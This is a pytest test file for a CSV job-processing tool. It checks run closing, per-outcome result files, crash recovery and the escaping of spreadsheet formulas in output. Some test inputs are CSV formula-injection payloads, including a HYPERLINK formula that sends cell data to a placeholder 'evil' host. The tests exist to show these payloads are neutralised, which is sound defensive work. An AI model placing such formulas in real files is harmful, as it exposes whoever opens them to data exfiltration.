"""Close: the proof that every row has one outcome, and files that say what became of it."""

from __future__ import annotations

import csv
import io
from typing import Any
from unittest import mock

import pytest

from jobferry.csvfile.header_names import RESULT_COLUMNS
from jobferry.domain.closing import final_status
from jobferry.domain.outcome import Outcome, OutcomeStatus, RecordResult
from jobferry.domain.run import RunStatus, StopReason
from jobferry.domain.run_event import run_event
from jobferry.domain.timestamps import timestamp
from jobferry.lane.state import LaneState
from jobferry.reporting import result_files
from jobferry.reporting.timeline import Timeline
from jobferry.steps import close_run as module
from jobferry.steps.close_run import RELAUNCHES, LanesStuckError
from jobferry.steps.open_run import resume_run
from jobferry.store import chunk_settling
from jobferry.store.operations import Item, Update
from tests.unit.outcome_samples import forget_outcome, put_outcomes
from tests.unit.store.samples import a_run
from virtual.effects import Crash, CrashOnce, Phase
from virtual.vendor import Behaviour
from virtual.world import ExecutionFailedError, World, sample_csv

MIXED = "Name,Ref\na,r1\n,r2\nb,r3\nc,r1\nd,r5\ne,r6\nf,r7\n"
"""Row 2 is rejected; with `Ref` as key, row 4 is skipped."""


def mixed(world: World) -> str:
    """A run that has every kind of outcome and is ready to be closed; returns its id."""
    answers = {
        "r1": RecordResult(OutcomeStatus.SUCCEEDED, vendor_id="77"),
        "r3": RecordResult(OutcomeStatus.FAILED, code="Invalid", text="=cmd()"),
        "r5": None,
    }
    world.account.result_of = lambda record: answers.get(
        record["ref"], RecordResult(OutcomeStatus.SUCCEEDED, vendor_id="78")
    )
    world.put_profile({"row_key": "Ref"})
    return ready(world, MIXED)


def ready(world: World, body: str | bytes) -> str:
    """A run whose lanes are done; returns its id."""
    run = world.planned(body)
    state = world.submit(LaneState(run.run_id, 0))
    while state.state == "working":
        world.clock.advance(25)
        state = world.submit(world.poll(state))
        world.settle(state)
    return run.run_id


def table_of(world: World, run_id: str, name: str) -> list[list[str]]:
    text = world.objects.get(f"results/{run_id}/{name}.csv").decode()
    return list(csv.reader(io.StringIO(text, newline="")))


class TestClosed:
    def test_every_row_is_in_the_file_of_its_outcome(self, world: World) -> None:
        run_id = mixed(world)
        answer = world.close(run_id)
        assert answer.pop("event") == run_event(world.run(run_id))
        assert answer == {
            "run_id": run_id,
            "state": "closed",
            "profile": "things",
            "status": "unresolved",
            "rows": 7,
            "outcomes": {"succeeded": 3, "failed": 1, "rejected": 1, "skipped": 1, "unknown": 1},
        }
        added = list(RESULT_COLUMNS)
        assert table_of(world, run_id, "succeeded") == [
            ["Name", "Ref", *added],
            ["a", "r1", "1", "succeeded", "77", "", ""],
            ["e", "r6", "6", "succeeded", "78", "", ""],
            ["f", "r7", "7", "succeeded", "78", "", ""],
        ]
        assert table_of(world, run_id, "failed")[1:] == [
            ["b", "r3", "3", "failed", "", "Invalid", "'=cmd()"]
        ]
        (rejected,) = table_of(world, run_id, "rejected")[1:]
        assert rejected[:6] == ["", "r2", "2", "rejected", "", "missing_value"]
        (skipped,) = table_of(world, run_id, "skipped")[1:]
        assert skipped[:6] == ["c", "r1", "4", "skipped", "", "conflicting_row_key"]
        assert table_of(world, run_id, "unknown")[1][2:4] == ["5", "unknown"]
        assert world.problems(run_id) == []

    def test_the_report_lies_beside_them(self, world: World) -> None:
        run_id = mixed(world)
        world.close(run_id)
        key = f"results/{run_id}/report.html"
        assert run_id in world.objects.get(key).decode()
        assert world.objects.content_type(key).startswith("text/html")
        assert world.objects.content_type(f"results/{run_id}/failed.csv").startswith("text/csv")

    def test_closing_again_changes_nothing(self, world: World) -> None:
        run_id = mixed(world)
        answer = world.close(run_id)
        before = world.table.items()
        world.clock.advance(100)
        assert world.close(run_id) == answer
        assert world.table.items() == before
        assert len(world.metrics) == 1

    def test_what_is_counted_is_told_once(self, world: World) -> None:
        run_id = ready(world, sample_csv(3))
        world.close(run_id)
        (metrics,) = world.metrics
        assert (metrics["RunsClosed"], metrics["RowsSucceeded"], metrics["RowsFailed"]) == (1, 3, 0)
        assert metrics["RunSeconds"] == world.clock.now() - world.run(run_id).started_at

    @pytest.mark.parametrize("phase", Phase)
    @pytest.mark.parametrize("number", range(1, 8))
    def test_a_crash_anywhere_is_mended_by_doing_it_again(
        self, world: World, number: int, phase: Phase
    ) -> None:
        run_id = mixed(world)
        world.effects.on_effect = CrashOnce(number, phase)
        with pytest.raises(Crash):
            world.close(run_id)
        assert world.close(run_id)["state"] == "closed"
        assert world.problems(run_id) == []

    @pytest.mark.parametrize("body", ["Name,Ref", "Name,Ref\n", "Name,Ref\r\n\r\n\r\n"])
    def test_a_file_without_rows_is_complete(self, world: World, body: str) -> None:
        run = world.processed(body)
        assert (run.status, run.rows, run.settled_rows) == (RunStatus.COMPLETED, 0, 0)
        assert table_of(world, run.run_id, "failed") == [["Name", "Ref", *RESULT_COLUMNS]]

    def test_a_file_that_cannot_be_used_leaves_a_report_and_no_tables(self, world: World) -> None:
        run = world.processed(b"")
        assert run.status is RunStatus.FAILED
        assert world.objects.keys(f"results/{run.run_id}/") == [f"results/{run.run_id}/report.html"]


class TestLanesLeft:
    def test_lanes_start_again_while_work_is_left(self, world: World) -> None:
        run = world.planned(sample_csv(400))
        state = world.submit(LaneState(run.run_id, 0))
        answer = world.close(run.run_id)
        assert (answer["state"], answer["lanes"]) == ("lanes", [0])
        assert answer["wait_until"] == timestamp(world.clock.now())
        world.settle(world.poll(state))
        assert world.close(run.run_id)["state"] == "lanes"

    def test_without_progress_they_start_later_and_later_and_then_no_more(
        self, world: World
    ) -> None:
        run_id = world.planned(sample_csv(8)).run_id
        waits = []
        for _ in range(RELAUNCHES + 1):
            waits.append(world.close(run_id)["wait_until"])
        now = world.clock.now()
        assert waits[:4] == [timestamp(now + seconds) for seconds in (0, 5, 10, 20)]
        with pytest.raises(LanesStuckError):
            world.close(run_id)

    def test_a_settled_row_is_progress(self, world: World) -> None:
        run_id = world.planned(sample_csv(400)).run_id
        for _ in range(4):
            world.close(run_id)
        state = world.submit(LaneState(run_id, 0))
        world.settle(world.poll(state))
        assert world.close(run_id)["wait_until"] == timestamp(world.clock.now())
        assert world.run(run_id).relaunches == 0

    def test_a_run_given_up_can_be_carried_on(self, world: World) -> None:
        run = world.planned(sample_csv(8))
        for _ in range(RELAUNCHES + 1):
            world.close(run.run_id)
        with pytest.raises(LanesStuckError):
            world.close(run.run_id)
        resume_run(run.run_id, run.execution, "arn:execution:later", world.deps)
        assert world.close(run.run_id)["state"] == "lanes"

    def test_a_run_may_wait_for_the_slots_of_another(self, world: World) -> None:
        other = world.planned(sample_csv(6, start=500))
        world.submit(LaneState(other.run_id, 0))
        run_id = world.planned(sample_csv(2)).run_id
        state = LaneState(run_id, 0)
        world.schedule_with(max_events=30)
        for _ in range(RELAUNCHES + 2):
            while state.state == "working":
                state = world.poll(world.submit(state))
            answer = world.close(run_id)
            assert answer["state"] == "lanes"
            state = LaneState(run_id, 0)


def reached(close: str | None) -> int:
    """The row up to which the files of a paused run are written."""
    name = (close or "").rsplit("/", 1)[-1].split(".")[0]
    return int(name) if name.isdecimal() else 0


class TestUnbalanced:
    def test_a_row_without_an_outcome(self, world: World) -> None:
        run_id = mixed(world)
        forget_outcome(world.store, run_id, 6, 0)
        assert world.close(run_id) == {"run_id": run_id, "state": "unbalanced"}
        assert world.run(run_id).closed_at is None
        assert "row without outcome" in world.warnings()

    def test_an_outcome_without_a_row(self, world: World) -> None:
        run_id = mixed(world)
        world.table.write(Update(f"RUN#{run_id}", "META", add={"n_failed": 1}))
        assert world.close(run_id)["state"] == "unbalanced"
        assert "run does not add up" in world.warnings()

    def test_an_outcome_that_was_changed_after_it_was_counted(self, world: World) -> None:
        run_id = mixed(world)
        put_outcomes(world.store, run_id, [Outcome(1, OutcomeStatus.FAILED)], 0)
        assert world.close(run_id)["state"] == "unbalanced"

    def test_the_execution_fails_loudly(self, world: World) -> None:
        request = world.drop(sample_csv(4))
        block_item = chunk_settling.block_item

        def forgetful(run_id: str, block: list[Outcome], expires_at: int) -> Item:
            return block_item(run_id, block[1:], expires_at)

        with (
            mock.patch.object(chunk_settling, "block_item", forgetful),
            pytest.raises(ExecutionFailedError, match="RunDoesNotAddUp"),
        ):
            world.execute(request)


class TestInSteps:
    """A run too long to be closed by one invocation."""

    ROWS = 60

    @pytest.fixture
    def run_id(self, world: World) -> str:
        body = sample_csv(self.ROWS) + "".join(f",bad {i}\n" for i in range(self.ROWS))
        return ready(world, body)

    @pytest.fixture(autouse=True)
    def _in_steps(self, world: World, run_id: str, monkeypatch: pytest.MonkeyPatch) -> None:
        """Small parts, and a pause every ten rows."""
        world.seconds["close"] = 0.0
        monkeypatch.setattr(module, "ROWS_PER_CLOCK_CHECK", 10)
        monkeypatch.setattr(result_files, "PART_BYTES", 500)

    def close(self, world: World, run_id: str) -> int:
        """Close in as many steps as it takes; a step that dies is done again."""
        for step in range(1, 100):
            try:
                state = world.close(run_id)["state"]
            except Crash:
                continue
            if state != "closing":
                assert state == "closed"
                return step
        raise AssertionError("closing makes no progress")

    def check(self, world: World, run_id: str) -> None:
        # An upload whose id died with its process is dropped by the bucket's lifecycle.
        assert world.problems(run_id) in ([], ["uploads in parts are left open"])
        good = table_of(world, run_id, "succeeded")[1:]
        assert [row[2] for row in good] == [str(n) for n in range(1, self.ROWS + 1)]
        bad = table_of(world, run_id, "rejected")[1:]
        assert [row[2] for row in bad] == [str(self.ROWS + n) for n in range(1, self.ROWS + 1)]
        assert world.objects.keys(f"results/{run_id}/partial/") == []

    def test_the_files_are_as_if_written_at_once(self, world: World, run_id: str) -> None:
        assert world.close(run_id) == {"run_id": run_id, "state": "closing"}
        assert world.run(run_id).status is RunStatus.CLOSING
        assert self.close(world, run_id) > 5
        self.check(world, run_id)

    def test_chunks_are_read_in_steps_too(
        self, world: World, run_id: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A million one-row jobs are more chunks than one invocation reads."""
        monkeypatch.setattr(module, "ROWS_PER_CLOCK_CHECK", 4)
        read: list[int] = []
        while "row" not in (saved := self.saved(world, run_id)):
            read.append(
                saved.get("timeline", {"counts": {"last_chunk": 0}})["counts"]["last_chunk"]
            )
            assert world.close(run_id)["state"] == "closing"
        assert read == [0, *range(4, self.ROWS // 2 + 1, 4)]
        self.close(world, run_id)
        self.check(world, run_id)
        jobs = {"planned": 30, "submitted": 30, "finished": 30}
        assert world.run(run_id).jobs == jobs
        every = Timeline.of(world.run(run_id), world.store.chunks.all(run_id))
        assert every.job_counts == jobs

    def saved(self, world: World, run_id: str) -> dict[str, Any]:
        key = world.run(run_id).close
        return world.objects.get_json(key) if key else {}

    def test_a_crash_while_parts_are_written(self, world: World, run_id: str) -> None:
        kinds = frozenset({"objects.put_part", "objects.begin_upload"})
        world.effects.on_effect = CrashOnce(4, Phase.BEFORE, kinds)
        self.close(world, run_id)
        self.check(world, run_id)

    def test_a_crash_between_the_pause_and_its_note(self, world: World, run_id: str) -> None:
        world.close(run_id)
        world.effects.on_effect = CrashOnce(1, Phase.BEFORE, frozenset({"table.write"}))
        self.close(world, run_id)
        self.check(world, run_id)

    def test_a_crash_after_the_files_are_finished(self, world: World, run_id: str) -> None:
        while reached(world.run(run_id).close) < 2 * self.ROWS - 10:
            world.close(run_id)
        world.seconds["close"] = 1.0
        world.effects.on_effect = CrashOnce(1, Phase.BEFORE, frozenset({"table.write"}))
        with pytest.raises(Crash):
            world.close(run_id)
        self.close(world, run_id)
        self.check(world, run_id)

    def test_a_run_with_many_kinds_of_errors_can_be_paused(
        self, world: World, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(module, "ROWS_PER_CLOCK_CHECK", 200)
        world.account.result_of = lambda record: RecordResult(
            OutcomeStatus.FAILED, code="Invalid", text=f"{record['ref']} {'ф' * 500}"
        )
        world.put_profile({"breaker": "off"})
        wide = "".join(f"{'x' * 80},r{n},{','.join(['y' * 80] * 4)}\n" for n in range(400))
        run_id = ready(world, "Name,Ref,A,B,C,D\n" + wide)
        assert world.close(run_id)["state"] == "closing"


@pytest.mark.parametrize(
    ("outcomes", "halted", "status"),
    [
        ({}, False, RunStatus.COMPLETED),
        ({"succeeded": 5, "skipped": 1}, False, RunStatus.COMPLETED),
        ({"succeeded": 5, "failed": 1}, False, RunStatus.COMPLETED_WITH_FAILURES),
        ({"rejected": 1}, False, RunStatus.COMPLETED_WITH_FAILURES),
        ({"succeeded": 5, "failed": 1, "unknown": 1}, False, RunStatus.UNRESOLVED),
        ({"skipped": 5}, True, RunStatus.ABORTED),
        ({"skipped": 5, "unknown": 1}, True, RunStatus.UNRESOLVED),
    ],
)
def test_what_a_balanced_run_is_called(
    outcomes: dict[str, int], halted: bool, status: RunStatus
) -> None:
    run = a_run(stop=StopReason("aborted", "Stopped.") if halted else None)
    assert final_status(run, {OutcomeStatus(name): n for name, n in outcomes.items()}) is status


def test_a_failed_run_stays_failed() -> None:
    assert final_status(a_run(status=RunStatus.FAILED), {}) is RunStatus.FAILED


class TestResultFiles:
    def test_a_mended_file_of_failures_is_carried_as_it_is(self, world: World) -> None:
        world.account.result_of = lambda record: RecordResult(
            OutcomeStatus.FAILED, code="Invalid", text="no"
        )
        first = world.processed('Name,Ref,Extra\n=danger,r1,-x\n"two\nlines",r2,"a,b"\n')
        mended = world.objects.get(f"results/{first.run_id}/failed.csv")
        assert b"'=danger,r1,'-x,1,failed" in mended
        world.account.result_of = lambda record: RecordResult(OutcomeStatus.SUCCEEDED, "9")
        second = world.processed(mended)
        assert second.status is RunStatus.COMPLETED
        assert world.account.submissions[-1].records == (
            {"name": "=danger", "ref": "r1"},
            {"name": "two\nlines", "ref": "r2"},
        )
        header, *rows = table_of(world, second.run_id, "succeeded")
        assert header == ["Name", "Ref", "Extra", *RESULT_COLUMNS]
        assert rows == [
            ["'=danger", "r1", "'-x", "1", "succeeded", "9", "", ""],
            ["two\nlines", "r2", "a,b", "2", "succeeded", "9", "", ""],
        ]

    @pytest.mark.parametrize("column", RESULT_COLUMNS)
    def test_a_foreign_file_with_a_column_of_ours_is_made_safe(
        self, world: World, column: str
    ) -> None:
        link = '=HYPERLINK(""http://evil/?""&A1,""x"")'
        run = world.processed(f'Name,Ref,=Extra,{column}\n"{link}",r1,"x;=cmd",1\n')
        header, row = table_of(world, run.run_id, "succeeded")
        assert header[:3] == ["Name", "Ref", "'=Extra"]
        assert row[:3] == ["'" + link.replace('""', '"'), "r1", "x;'=cmd"]
        assert world.account.submissions[-1].records[0]["name"] == link.replace('""', '"')

    def test_a_result_file_that_is_carried_again_stays_the_same(self, world: World) -> None:
        file: str | bytes = "Name,Ref\n\"x;'=a\",r1\n'=b,r2\n\ufeff=c,r3\n"
        names = ["x;'=a", "'=b", "\ufeff=c"]
        for _ in range(2):
            before = len(world.account.submissions)
            run = world.processed(file)
            sent = [r for each in world.account.submissions[before:] for r in each.records]
            assert [record["name"] for record in sent] == names
            file = world.objects.get(f"results/{run.run_id}/succeeded.csv")
            assert [row[0] for row in table_of(world, run.run_id, "succeeded")[1:]] == [
                "x;''=a",
                "''=b",
                "'\ufeff=c",
            ]

    @pytest.mark.parametrize(
        ("head", "encoding", "name", "marked"),
        [
            ("", "utf-8", "ä€😀", True),
            ("", "utf-8", "plain", False),
            ("\ufeff", "utf-8", "plain", True),
            ("\ufeff", "utf-16-le", "ä€😀", True),
            ("\ufeff", "utf-16-be", "plain", True),
        ],
    )
    @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
    def test_files_look_like_their_source(
        self, world: World, head: str, encoding: str, name: str, marked: bool, delimiter: str
    ) -> None:
        text = f"{head}Name,Ref\n{name},r1\nb,r2\nc,r3\n".replace(",", delimiter)
        run = world.processed(text.encode(encoding))
        data = world.objects.get(f"results/{run.run_id}/succeeded.csv")
        assert data.startswith(b"\xef\xbb\xbf") is marked
        first, second, *_ = data.decode("utf-8-sig").splitlines()
        assert first == delimiter.join(["Name", "Ref", *RESULT_COLUMNS])
        assert second == delimiter.join([name, "r1", "1", "succeeded", "id-r1", "", ""])

    def test_a_stopped_run_has_files_too(self, world: World) -> None:
        world.account.will_reply(Behaviour.REFUSE_PROFILE)
        run = world.processed(sample_csv(5))
        assert [row[0] for row in table_of(world, run.run_id, "failed")[1:]] == [
            "thing 1",
            "thing 2",
        ]
        assert len(table_of(world, run.run_id, "skipped")) == 4
